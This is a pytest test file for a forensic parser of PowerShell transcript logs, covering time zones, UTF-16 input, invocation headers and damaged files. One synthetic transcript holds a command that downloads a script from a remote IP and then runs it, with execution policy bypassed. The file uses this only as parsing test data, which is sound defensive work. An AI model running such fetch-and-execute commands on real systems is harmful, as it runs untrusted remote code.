"""PowerShell transcripts: the corpus's transcript (UTF-8 with BOM, CRLF) through the ingest,
its local times under another zone, invocation headers, UTF-16, and cut or damaged files."""

from __future__ import annotations

from datetime import UTC, datetime
from pathlib import Path

from parsers import HEAD_BYTES
from parsers.base import Options, ParseWarning
from parsers.powershell_transcript import PowerShellTranscriptParser
from tests.parsers.artifact_helpers import ARTIFACTS, claimed, ingest, parse_bytes, rows, summary
from tests.parsers.evtx_helpers import parse_file

PARSER = PowerShellTranscriptParser()
LOG = "logs/powershell_transcript.txt"
EXE = "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe"
STARS = "**********************"
HEADER = (
    f"{STARS}\nWindows PowerShell transcript start\nStart time: 20240301101500\nUsername: CORP\\alice\n"
    "RunAs User: CORP\\alice\nConfiguration Name: \nMachine: WS01 (Microsoft Windows NT 10.0.19045.0)\n"
    f'Host Application: "{EXE}" -NoProfile -ExecutionPolicy Bypass\nProcess ID: 7000\nPSVersion: 5.1.19041.3031\n'
    f"{STARS}\n"
)


def _parse(data: bytes, options: Options | None = None) -> tuple[list[dict], list[ParseWarning]]:
    return parse_bytes(PARSER, data, options)


def test_corpus_transcript(corpus: Path, tmp_path: Path) -> None:
    path = corpus / ARTIFACTS / LOG
    case, results = ingest(tmp_path, path)
    assert summary(results["powershell_transcript.txt"]) == ("ok", "powershell_transcript", 3, 0, [])
    start, command, end = rows(case, path)
    assert [(r["source_record"], r["datetime"], r["event_action"]) for r in (start, command, end)] == [
        (2, datetime(2022, 7, 21, 2, 37, 49, tzinfo=UTC), "powershell-transcript-start"),
        (19, datetime(2022, 7, 21, 2, 37, 49, tzinfo=UTC), "powershell-command"),  # no invocation header
        (23, datetime(2022, 7, 21, 2, 37, 59, tzinfo=UTC), "powershell-transcript-end"),
    ]
    for row in (start, command, end):
        assert (row["user_name"], row["user_domain"], row["host_name"], row["process_pid"]) == (
            "IEUser", "MSEDGEWIN10", "MSEDGEWIN10", 6456,
        )  # fmt: skip
        assert (row["process_executable"], row["process_command_line"]) == (EXE, EXE)
    assert (
        start["message"]
        == f"PowerShell transcript start: MSEDGEWIN10\\IEUser on MSEDGEWIN10 ({EXE}, pid 6456)"
    )
    assert start["fields"] == {
        "time_zone": "UTC", "runas_user": "MSEDGEWIN10\\IEUser", "psversion": "5.1.17763.1852",
        "psedition": "Desktop", "buildversion": "10.0.17763.1852", "clrversion": "4.0.30319.42000",
        "os": "Microsoft Windows NT 10.0.17763.0",
    }  # fmt: skip
    assert command["message"] == "whoami"
    assert {k: command["fields"][k] for k in ("command", "working_directory", "time_from", "output")} == {
        "command": "whoami", "working_directory": "C:\\Windows\\system32", "time_from": "transcript start",
        "output": "msedgewin10\\ieuser",
    }  # fmt: skip


def test_local_times_use_the_host_zone(corpus: Path) -> None:
    got, found = parse_file(PARSER, corpus / ARTIFACTS / LOG, Options(timezone="America/Los_Angeles"))
    assert found == [] and len(got) == 3
    assert [r["datetime"] for r in got] == [
        datetime(2022, 7, 21, 9, 37, 49, tzinfo=UTC),  # PDT, UTC-7
        datetime(2022, 7, 21, 9, 37, 49, tzinfo=UTC),
        datetime(2022, 7, 21, 9, 37, 59, tzinfo=UTC),
    ]
    assert dict(got[1]["fields"])["time_zone"] == "America/Los_Angeles"


def test_invocation_headers_scripts_and_utf16() -> None:
    text = (
        HEADER
        + f"Transcript started, output file is C:\\t\\x.txt\n{STARS}\nCommand start time: 20240301101502\n{STARS}\n"
        + "PS C:\\Users\\alice> Invoke-WebRequest http://198.51.100.9/a.ps1 -OutFile a.ps1\n"
        + f"{STARS}\nCommand start time: 20240301101510\n{STARS}\n"
        + "PS>.\\a.ps1 > out.txt\nline one\nline two\n"
        + f"{STARS}\nWindows PowerShell transcript end\nEnd time: 20240301101530\n{STARS}\n"
    )
    for data in (text.encode(), text.encode("utf-16")):  # UTF-16 LE with a BOM, as PowerShell 3/4 wrote
        got, found = _parse(data, Options(timezone="Europe/Berlin"))
        assert found == []
        assert [(r["datetime"], r["event_action"], r["message"][:40]) for r in got] == [
            (datetime(2024, 3, 1, 9, 15, tzinfo=UTC), "powershell-transcript-start", "PowerShell transcript start: CORP\\alice "),
            (datetime(2024, 3, 1, 9, 15, 2, tzinfo=UTC), "powershell-command", "Invoke-WebRequest http://198.51.100.9/a."),
            (datetime(2024, 3, 1, 9, 15, 10, tzinfo=UTC), "powershell-command", ".\\a.ps1 > out.txt"),
            (datetime(2024, 3, 1, 9, 15, 30, tzinfo=UTC), "powershell-transcript-end", "PowerShell transcript end"),
        ]  # fmt: skip
        assert (got[0]["process_executable"], got[0]["user_name"], got[0]["host_name"]) == (
            EXE,
            "alice",
            "WS01",
        )
        assert got[1]["fields"]["time_from"] == "command start time"
        script = got[2]["fields"]
        assert ("working_directory" in script, script["output"], script["output_lines"]) == (
            False, "line one\nline two", "2",
        )  # fmt: skip
    assert PARSER.sniff(text.encode("utf-16")) and PARSER.sniff(text.encode())


def test_cut_and_damaged_transcripts(corpus: Path) -> None:
    data = (corpus / ARTIFACTS / LOG).read_bytes()
    cut = data[: data.index(b"msedgewin10\\ieuser")]  # killed while whoami ran: no output, no end
    got, found = _parse(cut)
    assert [r["event_action"] for r in got] == ["powershell-transcript-start", "powershell-command"]
    assert [(w.location, w.reason, w.count) for w in found] == [
        ("line 2", "transcript has no end (session killed or file cut short)", 0),
    ]
    bad = data.replace(b"Start time: 20220721023749", b"Start time: 2022072102374").replace(
        b"End time: 20220721023759", b"End time: yesterday"
    )
    got, found = _parse(bad)
    assert [(w.location, w.reason, w.count) for w in found] == [
        ("line 3", "invalid start time '2022072102374'", 1),
        ("line 23", "invalid end time 'yesterday'", 1),
    ]
    assert [(r["datetime"], r["event_action"]) for r in got] == [  # kept, without a time
        (None, "powershell-transcript-start"), (None, "powershell-command"), (None, "powershell-transcript-end"),
    ]  # fmt: skip
    header_only = data[: data.index(b"PSEdition")]
    got, found = _parse(header_only)
    assert [(r["datetime"], r["process_pid"]) for r in got] == [
        (datetime(2022, 7, 21, 2, 37, 49, tzinfo=UTC), 6456)
    ]
    assert [(w.location, w.reason, w.count) for w in found] == [("line 2", "transcript header cut short", 1)]


def test_sniff(corpus: Path) -> None:
    assert PARSER.sniff((corpus / ARTIFACTS / LOG).read_bytes()[:HEAD_BYTES])
    assert PARSER.sniff(f"{STARS}\nPowerShell transcript start\n".encode())  # PowerShell 7
    assert not PARSER.sniff(b"Windows PowerShell transcript start\n")
    assert not PARSER.sniff(f"{STARS}\nSomething else\n".encode())


def test_claims_nothing_else(corpus: Path) -> None:
    assert claimed(corpus, PARSER) == [f"{ARTIFACTS}/{LOG}"]
